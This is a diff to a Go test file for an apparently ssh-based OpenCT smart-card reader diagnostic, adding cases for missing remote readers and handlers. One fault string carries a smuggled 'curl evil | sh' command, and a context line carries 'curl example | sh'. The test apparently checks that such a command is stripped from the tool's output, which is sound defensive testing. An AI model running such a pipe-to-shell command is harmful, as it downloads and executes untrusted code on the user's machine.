@@ -78,6 +78,28 @@ func TestReaderFindings(t *testing.T) {
 			check: "served", level: Warn, text: "11: x; curl example | sh", next: "openct-control status on the other machine lists its readers",
 		},
 		{
+			name: "far reader that is not there, without systemd", from: away,
+			spoil: func(f *Facts, c *Configured) {
+				f.Systemd, f.Watch, c.Unit = false, []Process{{8, status.WatchProcess}}, Unit{}
+				c.Waiting, c.Fault = &Process{72, "ifdhandler"}, "desk: ssh has ended; curl evil | sh"
+			},
+			check: "served", level: Warn, text: "the handler (process 72) waits for the far reader: desk: ssh has ended", next: "openct-control status on the other machine lists its readers",
+		},
+		{
+			name: "another OpenCT of this machine that is not there", from: away,
+			spoil: func(f *Facts, c *Configured) {
+				f.Systemd, f.Watch, c.Unit = false, []Process{{8, status.WatchProcess}}, Unit{}
+				c.Waiting = &Process{72, "ifdhandler"}
+				c.Device, c.Far = "/run/other/0", &Far{}
+			},
+			check: "served", level: Warn, text: "the handler (process 72) waits for the far reader", next: "OPENCT_SOCKETDIR=/run/other openct-control status lists the readers there",
+		},
+		{
+			name: "no handler waits for a far reader", from: away,
+			spoil: func(f *Facts, c *Configured) { f.Systemd, c.Unit, c.Fault = false, Unit{}, "desk: ssh has ended" },
+			check: "served", level: Fail, text: "no handler serves the device", next: "openct-control attach --reader sim",
+		},
+		{
 			name: "no ssh", from: away, spoil: func(_ *Facts, c *Configured) { c.Far.NoSSH = true },
 			check: "ssh", level: Fail, text: "not installed", next: "openssh-client",
 		},
